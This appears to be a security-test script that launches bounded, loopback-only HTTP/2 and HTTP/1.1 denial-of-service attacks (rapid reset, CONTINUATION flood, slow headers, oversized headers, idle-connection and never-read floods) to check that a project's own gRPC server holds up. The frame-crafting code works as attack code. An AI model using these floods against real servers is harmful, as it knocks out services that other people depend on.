/**
 * HTTP/2 and HTTP/1.1 abuse from a separate process (so the test's honest
 * client does not share an event loop with it): `node --import tsx
 * tests/security/h2-attacker.ts <attack> <port> <h2|http1>`. Loopback only,
 * every loop bounded; prints one JSON line with what it did and how the
 * server ended it.
 */
import net from "node:net";

type Proto = "h2" | "http1";
const [attack = "", portText = "", proto = "h2"] = process.argv.slice(2) as [string, string, Proto];
const port = Number(portText);
const HOST = "127.0.0.1";
/** No attack runs longer than this. */
const DEADLINE_MS = 45_000;
const started = Date.now();
const expired = () => Date.now() - started > DEADLINE_MS;

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const T = { DATA: 0, HEADERS: 1, RST: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW: 8, CONT: 9 };

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

function hpackInt(value: number, prefixBits: number, first: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([first | value]);
  const out = [first | max];
  let v = value - max;
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
}
const str = (s: string) => Buffer.concat([hpackInt(Buffer.byteLength(s), 7, 0), Buffer.from(s)]);
/** Literal header without indexing, new name. */
const lit = (name: string, value: string) =>
  Buffer.concat([Buffer.from([0]), str(name), str(value)]);
/** Literal without indexing, name from the static table. */
const litIdx = (index: number, value: string) => Buffer.concat([hpackInt(index, 4, 0), str(value)]);

/** POST to a gRPC path: :method POST (3), :scheme http (6), :path (4), :authority (1). */
function requestBlock(path: string, extra: Buffer[] = []) {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]),
    litIdx(4, path),
    litIdx(1, `${HOST}:${port}`),
    lit("content-type", "application/grpc"),
    lit("te", "trailers"),
    ...extra,
  ]);
}

/** A gRPC message frame (5-byte prefix) with an empty protobuf: a valid empty request. */
const EMPTY_GRPC = Buffer.from([0, 0, 0, 0, 0]);

interface Conn {
  sock: net.Socket;
  closed: Promise<void>;
  isClosed: () => boolean;
  goaway: () => boolean;
  openedAt: number;
  closedAt: number;
}

function connect(opts: { h2Preface: boolean; settings?: Buffer; read?: boolean }): Promise<Conn> {
  return new Promise((resolve, reject) => {
    const sock = net.connect({ host: HOST, port });
    let closed = false;
    let goaway = false;
    let closedAt = 0;
    let buf = Buffer.alloc(0);
    const done = new Promise<void>((r) =>
      sock.once("close", () => {
        closed = true;
        closedAt = Date.now();
        r();
      }),
    );
    sock.on("error", () => {});
    sock.on("data", (d: Buffer) => {
      if (!opts.h2Preface) return;
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3];
        const flags = buf[4] as number;
        if (type === T.GOAWAY) goaway = true;
        // A polite peer acknowledges SETTINGS, so the server keeps treating it as one.
        if (type === T.SETTINGS && !(flags & 1)) sock.write(frame(T.SETTINGS, 1, 0));
        buf = buf.subarray(9 + len);
      }
    });
    if (opts.read === false) sock.pause();
    sock.once("connect", () => {
      if (opts.h2Preface)
        sock.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0, opts.settings)]));
      resolve({
        sock,
        closed: done,
        isClosed: () => closed,
        goaway: () => goaway,
        openedAt: Date.now(),
        get closedAt() {
          return closedAt;
        },
      });
    });
    sock.once("error", reject);
  });
}

let stalls = 0;
/**
 * Writes, waiting for the socket to drain; false once the server closed it,
 * or stopped reading from us for 3 s (it no longer takes what we send).
 */
async function send(c: Conn, bytes: Buffer): Promise<boolean> {
  if (c.isClosed() || c.sock.destroyed) return false;
  if (!c.sock.write(bytes)) {
    let timer: NodeJS.Timeout | undefined;
    const stalled = await Promise.race([
      new Promise<boolean>((r) => c.sock.once("drain", () => r(false))),
      c.closed.then(() => false),
      new Promise<boolean>((r) => {
        timer = setTimeout(() => r(true), 3_000);
      }),
    ]);
    clearTimeout(timer);
    if (stalled) {
      stalls++;
      return false;
    }
  }
  return !c.isClosed();
}

const waitClosed = (conns: Conn[], ms: number) =>
  Promise.race([
    Promise.all(conns.map((c) => c.closed)),
    new Promise((r) => setTimeout(r, Math.max(0, ms))),
  ]);

/**
 * A paused socket does not see the server's FIN; a write after the server
 * hung up does fail (EPIPE/RST), so a never-reading client probes with
 * harmless bytes (a PING frame, an empty line) until closed or the deadline,
 * every 5 s: longer than the idle timeout the test sets, so the probe itself
 * does not count as the activity that keeps the connection open.
 */
async function probeUntilClosed(c: Conn, bytes: Buffer) {
  while (!c.isClosed() && !expired()) {
    c.sock.write(bytes);
    await Promise.race([c.closed, new Promise((r) => setTimeout(r, 5_000))]);
  }
}

function summary(conns: Conn[]) {
  const closed = conns.filter((c) => c.isClosed());
  const times = closed.map((c) => c.closedAt - c.openedAt).sort((a, b) => a - b);
  return {
    connections: conns.length,
    closed: closed.length,
    goaway: conns.filter((c) => c.goaway()).length,
    closedAfterMsMax: times.at(-1) ?? null,
  };
}

async function rapidReset() {
  const c = await connect({ h2Preface: true });
  const block = requestBlock("/manager.ManagerService/Heartbeat");
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(8); // CANCEL
  let streams = 0;
  const t0 = Date.now();
  for (let id = 1; id < 2 * 200_000 && !expired(); ) {
    const chunk: Buffer[] = [];
    for (let k = 0; k < 100; k++, id += 2, streams++) {
      chunk.push(frame(T.HEADERS, 0x4, id, block), frame(T.RST, 0, id, rst));
    }
    if (!(await send(c, Buffer.concat(chunk)))) break;
  }
  const ms = Date.now() - t0;
  await waitClosed([c], 5_000);
  c.sock.destroy();
  return {
    streams,
    ms,
    ratePerSecond: Math.round((streams / Math.max(1, ms)) * 1000),
    ...summary([c]),
  };
}

async function idle(n: number) {
  const conns: Conn[] = [];
  const t0 = Date.now();
  // In batches: a burst of 5,000 SYNs would overflow the listen backlog, which tests the kernel.
  for (let i = 0; i < n && !expired(); i += 250) {
    const batch = await Promise.allSettled(
      Array.from({ length: Math.min(250, n - i) }, () => connect({ h2Preface: proto === "h2" })),
    );
    for (const r of batch) if (r.status === "fulfilled") conns.push(r.value);
  }
  const openMs = Date.now() - t0;
  await waitClosed(conns, DEADLINE_MS - (Date.now() - started));
  const out = { openMs, ...summary(conns) };
  for (const c of conns) c.sock.destroy();
  return out;
}

async function slowHeaders(n: number) {
  const conns = await Promise.all(
    Array.from({ length: n }, () => connect({ h2Preface: proto === "h2" })),
  );
  let sent = 0;
  if (proto === "h2") {
    for (const c of conns)
      await send(c, frame(T.HEADERS, 0, 1, requestBlock("/fleet.v1.FleetService/ListNodes")));
  } else {
    for (const c of conns)
      await send(c, Buffer.from(`POST /fleet.v1.FleetService/ListNodes HTTP/1.1\r\nHost: x\r\n`));
  }
  // One more header line (or CONTINUATION) a second, for as long as the server lets us.
  for (let round = 0; round < 40 && !expired() && conns.some((c) => !c.isClosed()); round++) {
    await new Promise((r) => setTimeout(r, 1_000));
    for (const c of conns) {
      const more =
        proto === "h2"
          ? frame(T.CONT, 0, 1, lit(`x-slow-${round}`, "a"))
          : Buffer.from(`X-Slow-${round}: a\r\n`);
      if (await send(c, more)) sent++;
    }
  }
  await waitClosed(conns, 2_000);
  const out = { linesSent: sent, ...summary(conns) };
  for (const c of conns) c.sock.destroy();
  return out;
}

async function bigHeaders(requests: number) {
  const big = "a".repeat(64 * 1024);
  const conns: Conn[] = [];
  let sent = 0;
  if (proto === "h2") {
    // Many connections, each sending oversized header blocks (split over CONTINUATION frames).
    for (let i = 0; i < requests / 50 && !expired(); i++) {
      const c = await connect({ h2Preface: true });
      conns.push(c);
      const block = requestBlock("/manager.ManagerService/Heartbeat", [lit("x-big", big)]);
      for (let s = 0, id = 1; s < 50; s++, id += 2) {
        const parts: Buffer[] = [];
        for (let off = 0; off < block.length; off += 16_000) {
          const piece = block.subarray(off, off + 16_000);
          const last = off + 16_000 >= block.length;
          parts.push(
            frame(
              off === 0 ? T.HEADERS : T.CONT,
              (last ? 0x4 : 0) | (off === 0 ? 0x1 : 0),
              id,
              piece,
            ),
          );
        }
        if (!(await send(c, Buffer.concat(parts)))) break;
        sent++;
      }
    }
  } else {
    for (let i = 0; i < requests / 10 && !expired(); i++) {
      const c = await connect({ h2Preface: false });
      conns.push(c);
      for (let k = 0; k < 10; k++) {
        if (
          !(await send(c, Buffer.from(`GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: ${big}\r\n\r\n`)))
        )
          break;
        sent++;
      }
    }
  }
  await waitClosed(conns, 5_000);
  const out = { requestsSent: sent, ...summary(conns) };
  for (const c of conns) c.sock.destroy();
  return out;
}

async function continuationFlood() {
  const c = await connect({ h2Preface: true });
  let frames = 0;
  let bytes = 0;
  const t0 = Date.now();
  await send(c, frame(T.HEADERS, 0, 1, requestBlock("/manager.ManagerService/Heartbeat")));
  // Bounded: at most 500,000 frames or 64 MiB, or until the server hangs up.
  while (frames < 500_000 && bytes < 64 * 1024 * 1024 && !expired()) {
    const chunk: Buffer[] = [];
    for (let k = 0; k < 200; k++, frames++)
      chunk.push(frame(T.CONT, 0, 1, lit(`x-${frames % 1000}`, "v")));
    const b = Buffer.concat(chunk);
    bytes += b.length;
    if (!(await send(c, b))) break;
  }
  const ms = Date.now() - t0;
  await waitClosed([c], 5_000);
  c.sock.destroy();
  return {
    frames,
    bytes,
    ms,
    ratePerSecond: Math.round((frames / Math.max(1, ms)) * 1000),
    ...summary([c]),
  };
}

async function noRead(streams: number) {
  if (proto === "h2") {
    // A window of 0: the server may send headers but no DATA; and we never read the socket.
    const settings = Buffer.alloc(6);
    settings.writeUInt16BE(0x4, 0);
    settings.writeUInt32BE(0, 2);
    const c = await connect({ h2Preface: true, settings, read: false });
    let sent = 0;
    // Cheap calls, so this tests unread answers piling up, not a flood of
    // database queries (max_in_flight's business).
    const block = requestBlock("/grpc.health.v1.Health/Check");
    for (let id = 1; sent < streams && !expired(); id += 2) {
      const bytes = Buffer.concat([
        frame(T.HEADERS, 0x4, id, block),
        frame(T.DATA, 0x1, id, EMPTY_GRPC),
      ]);
      if (!(await send(c, bytes))) break;
      sent++;
    }
    await probeUntilClosed(c, frame(T.PING, 0, 0, Buffer.alloc(8)));
    const out = { requestsSent: sent, ...summary([c]) };
    c.sock.destroy();
    return out;
  }
  const c = await connect({ h2Preface: false, read: false });
  let sent = 0;
  const req = Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(100));
  for (; sent < streams && !expired(); sent += 100) {
    if (!(await send(c, req))) break;
  }
  await probeUntilClosed(c, Buffer.from("\r\n"));
  const out = { requestsSent: sent, ...summary([c]) };
  c.sock.destroy();
  return out;
}

async function main() {
  if (!(port > 0)) throw new Error(`usage: h2-attacker <attack> <port> <h2|http1>`);
  const runs: Record<string, () => Promise<object>> = {
    "rapid-reset": rapidReset,
    idle: () => idle(5_000),
    "slow-headers": () => slowHeaders(200),
    "big-headers": () => bigHeaders(2_000),
    "continuation-flood": continuationFlood,
    "no-read": () => noRead(5_000),
  };
  const run = runs[attack];
  if (!run) throw new Error(`unknown attack ${attack}`);
  const result = await run();
  process.stdout.write(
    `${JSON.stringify({ attack, proto, elapsedMs: Date.now() - started, stalls, ...result })}\n`,
  );
}

main().then(
  () => process.exit(0),
  (err) => {
    process.stderr.write(`${(err as Error).stack}\n`);
    process.exit(1);
  },
);
